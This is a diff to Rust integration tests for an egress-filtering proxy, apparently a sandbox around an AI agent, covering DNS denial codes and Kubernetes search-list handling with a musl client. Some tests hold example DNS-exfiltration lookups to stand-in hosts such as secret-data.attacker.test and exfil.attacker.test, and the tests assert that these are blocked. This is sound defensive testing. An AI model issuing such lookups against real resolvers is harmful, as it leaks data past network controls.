@@ -100,7 +100,7 @@ fn exfiltration_by_lookup_is_refused_and_never_forwarded() {
             );
             assert_eq!(
                 status(&r.stdout),
-                "REFUSED",
+                "NXDOMAIN",
                 "{server} {transport}: {}{}",
                 r.stdout,
                 r.stderr
@@ -133,7 +133,7 @@ fn exfiltration_by_lookup_is_refused_and_never_forwarded() {
         upstream.asked()
     );
     let r = dig(&ns, "@198.51.100.53 secret-data.attacker.test TXT");
-    assert_eq!(status(&r.stdout), "REFUSED");
+    assert_eq!(status(&r.stdout), "NXDOMAIN");
 }
 
 /// The agent chooses its queries' ids; the proxy must not pass them on to
@@ -307,7 +307,7 @@ fn upstream_down_fails_closed_and_is_counted() {
             &["+time=3", "+tries=1", "@203.0.113.1", "exfil.attacker.test"],
         )
         .unwrap();
-    assert_eq!(status(&String::from_utf8_lossy(&out.stdout)), "REFUSED");
+    assert_eq!(status(&String::from_utf8_lossy(&out.stdout)), "NXDOMAIN");
     assert_eq!(
         daemon
             .metric(
@@ -503,4 +503,119 @@ except Exception: pass\"; \
     assert_eq!(e["hook"], "connect4", "{e}");
     assert_eq!(e["reason"], "destination_not_allowed", "{e}");
     assert_eq!(e["daddr"], "203.0.113.9", "{e}");
+}
+
+/// A client built against musl (the C library of Alpine images): prints the
+/// first IPv4 address getaddrinfo gives for its argument, or `error`.
+const MUSL_CLIENT: &str = r#"
+#include <netdb.h>
+#include <stdio.h>
+#include <string.h>
+#include <arpa/inet.h>
+int main(int argc, char **argv) {
+    struct addrinfo hints, *res;
+    memset(&hints, 0, sizeof hints);
+    hints.ai_family = AF_INET;
+    hints.ai_socktype = SOCK_STREAM;
+    int rc = getaddrinfo(argv[1], NULL, &hints, &res);
+    if (rc != 0) { printf("error %s\n", gai_strerror(rc)); return 0; }
+    char buf[64];
+    inet_ntop(AF_INET, &((struct sockaddr_in *)res->ai_addr)->sin_addr, buf, sizeof buf);
+    printf("%s\n", buf);
+    return 0;
+}
+"#;
+
+/// Resolves api.model.test with glibc (getent) and musl under Kubernetes'
+/// resolver settings (a search list, ndots:5), with `dns` settings
+/// `dns_yaml`; returns what each printed, and the run.
+fn resolve_as_a_pod(
+    ns: &Netns,
+    tmp: &TempDir,
+    dns_yaml: &str,
+) -> (Vec<String>, egress_tests::egressd::ExecResult) {
+    let source = tmp.write("resolve.c", MUSL_CLIENT).unwrap();
+    let client = tmp.0.join("resolve-musl");
+    let built = std::process::Command::new("musl-gcc")
+        .args(["-static", "-O2", "-o"])
+        .arg(&client)
+        .arg(&source)
+        .status()
+        .expect("musl-gcc (Debian package musl-tools)");
+    assert!(built.success());
+    let conf = tmp
+        .write(
+            "resolv.conf",
+            "nameserver 203.0.113.1\n\
+             search default.svc.cluster.local svc.cluster.local cluster.local\n\
+             options ndots:5 attempts:1 timeout:2\n",
+        )
+        .unwrap();
+    let policy = tmp
+        .write(
+            "p.yaml",
+            &format!(
+                "name: pod\nallow:\n  - host: api.model.test\n    ports: [443]\ndns:\n  upstream: [{UPSTREAM}]\n{dns_yaml}"
+            ),
+        )
+        .unwrap();
+    let script = format!(
+        "mount --bind {} /etc/resolv.conf && \
+         (getent ahostsv4 api.model.test | head -n 1 | cut -d' ' -f1); {}",
+        conf.display(),
+        client.display()
+    );
+    let r = exec(
+        ns,
+        &["--policy", &policy.display().to_string()],
+        &[
+            "unshare",
+            "--mount",
+            "sh",
+            "-c",
+            &format!("{script} api.model.test"),
+        ],
+    )
+    .unwrap();
+    (r.stdout.lines().map(str::to_string).collect(), r)
+}
+
+/// Under Kubernetes' ndots:5 a resolver asks for the search-list
+/// expansions of an allowed name first (`api.model.test.default.svc.cluster.local`).
+/// With `dns.search` they are answered NXDOMAIN at once: never forwarded,
+/// never a denial, and glibc and musl both resolve the name. Without it and
+/// with `refuse_with: refused`, musl gives up at the first expansion: why
+/// NXDOMAIN is the default.
+#[test]
+fn search_list_expansions_are_quiet_and_musl_resolves() {
+    require_root();
+    let ns = Netns::new("search").unwrap();
+    let upstream = zone(&ns);
+    let tmp = TempDir::new("search").unwrap();
+    let (lines, r) = resolve_as_a_pod(&ns, &tmp, "  search: [cluster.local]\n");
+    assert_eq!(lines, ["198.51.100.1", "198.51.100.1"], "{r:?}");
+    assert!(
+        r.events.iter().all(|e| e["hook"] != "dns"),
+        "an expansion was reported as a denial: {r:?}"
+    );
+    assert!(
+        !upstream.asked().iter().any(|n| n.contains("cluster.local")),
+        "an expansion was forwarded: {:?}",
+        upstream.asked()
+    );
+    // Why NXDOMAIN is the default: REFUSED ends musl's search.
+    let (lines, r) = resolve_as_a_pod(&ns, &tmp, "  search: []\n  refuse_with: refused\n");
+    assert!(
+        lines.get(1).is_some_and(|l| l.starts_with("error")),
+        "{r:?}"
+    );
+    // Without `dns.search` each expansion is a denial, but both resolve.
+    let (lines, r) = resolve_as_a_pod(&ns, &tmp, "  search: []\n");
+    assert_eq!(lines, ["198.51.100.1", "198.51.100.1"], "{r:?}");
+    assert!(
+        r.events
+            .iter()
+            .any(|e| e["hook"] == "dns" && e["qname"] == "api.model.test.cluster.local"),
+        "{r:?}"
+    );
 }
